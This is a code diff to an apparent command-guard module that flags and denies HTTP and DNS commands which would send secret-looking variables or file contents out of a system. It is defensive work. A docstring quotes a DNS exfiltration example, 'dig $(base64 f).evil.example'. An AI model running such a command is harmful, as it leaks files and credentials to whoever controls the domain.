@@ -9,7 +9,7 @@ from __future__ import annotations
 import re
 from typing import TYPE_CHECKING
 
-from zen.guard.hosted import READ_METHODS, graphql_read, mutating_call, url_path
+from zen.guard.hosted import READ_METHODS, graphql_read, hosted_host, mutating_call, url_path
 from zen.guard.options import has, split_opts, val
 from zen.guard.rules import env, pkg, secrets
 from zen.guard.rules.methods import (
@@ -83,6 +83,7 @@ def http(an: Analyser, name: str, args: list[Word], st: State, cmd: Cmd | None, 
         urls.extend(pos)
         method = curl_method(opts) if name in ("curl", "curlie") else wget_method(opts) if name == "wget" \
             else "GET"
+    _sent_secrets(an, name, args, urls)
     if not urls and not pos:
         return
     bodies = request_bodies(opts)
@@ -153,6 +154,10 @@ def _http_options(an: Analyser, name: str, opts: list[tuple[str, Word | None]], 
                 an.read_word(v, st)
                 if name == "wget" and o in ("-i", "--input-file"):   # the URLs are in that file
                     an.deny("net.unresolved-host", f"`{name} {o}` takes its targets from elsewhere")
+            elif o in ("-F", "--form") and "=<" in txt:     # name=<file: the file's text as the field
+                ref = txt.split("=<", 1)[1].split(";", 1)[0]
+                if ref and ref != "-":
+                    an.read_word(Word(ref), st)
             elif "@" in txt and o not in ("--data-raw", "--form-string"):
                 ref = txt.split("@", 1)[1].split(";", 1)[0]
                 if ref and ref != "-":
@@ -175,6 +180,54 @@ def _http_options(an: Analyser, name: str, opts: list[tuple[str, Word | None]], 
                    "--load-cookies"):
             an.read_word(v, st)
     return urls
+
+
+# options whose value authenticates a request (a header, user:password, a bearer token)
+_AUTH_OPTS = frozenset({"-H", "--header", "-u", "--user", "--oauth2-bearer", "--proxy-user", "--http-user",
+                        "--http-password", "--password", "--proxy-password", "-a", "--auth"})
+_HTTPIE_HEADER = re.compile(r"^[\w-]+:(?!=)")
+
+
+def _sent_secrets(an: Analyser, name: str, args: list[Word], urls: list[Word]) -> None:
+    """A secret-looking variable in what an HTTP client sends. As a header or user:password to a
+    hosted API (api.github.com, ...) it is the token's own use; in a body, a form, the URL, or to
+    any other host (loopback too: a listener there can pass it on) it is sent out: denied."""
+    shown: str | None = None
+    auth_only = True
+    for k, a in enumerate(args):
+        if not (a.secret and not a.raw.lstrip("\"").startswith("${#")):
+            continue
+        shown = shown or a.raw
+        if a.text.startswith("-"):
+            opt = a.text.split("=", 1)[0] if a.text.startswith("--") else a.text[:2]
+        else:
+            opt = args[k - 1].text if k and args[k - 1].text.startswith("-") else ""
+        if opt not in _AUTH_OPTS and not (not opt and name in HTTPIE and _HTTPIE_HEADER.match(a.text)):
+            auth_only = False
+    if shown is None:
+        return
+    if auth_only and urls and not any(u.secret for u in urls) and all(
+            hosted_host(an, u.text if "://" in u.text else "https://" + u.text) for u in urls):
+        return
+    sends_secret(an, name, shown)
+
+
+def sends_secret(an: Analyser, name: str, shown: str) -> None:
+    an.deny("creds.exfil", f"`{name}` sends a secret-looking variable ({shown}) to a host that is not its "
+            "service; credentials never pass through an agent (a gate holds them: zen gate)")
+
+
+def dns(an: Analyser, name: str, args: list[Word], st: State, cmd: Cmd | None, depth: int) -> None:
+    """dig, host, nslookup, drill: the name asked for reaches the network (and whoever answers for
+    its domain), so a name built at run time can carry data out (`dig $(base64 f).evil.example`)."""
+    for k, a in enumerate(args):
+        if a.secret:
+            sends_secret(an, name, a.raw)
+        if not a.known:
+            an.deny("creds.exfil", f"`{name}` looks up a name only known at run time ({a.raw}): a DNS query "
+                    "can carry data to whoever answers for the domain")
+        if a.text in ("-f",) and k + 1 < len(args):
+            an.read_word(args[k + 1], st)
 
 
 def socket(an: Analyser, name: str, args: list[Word], st: State, cmd: Cmd | None, depth: int) -> None:
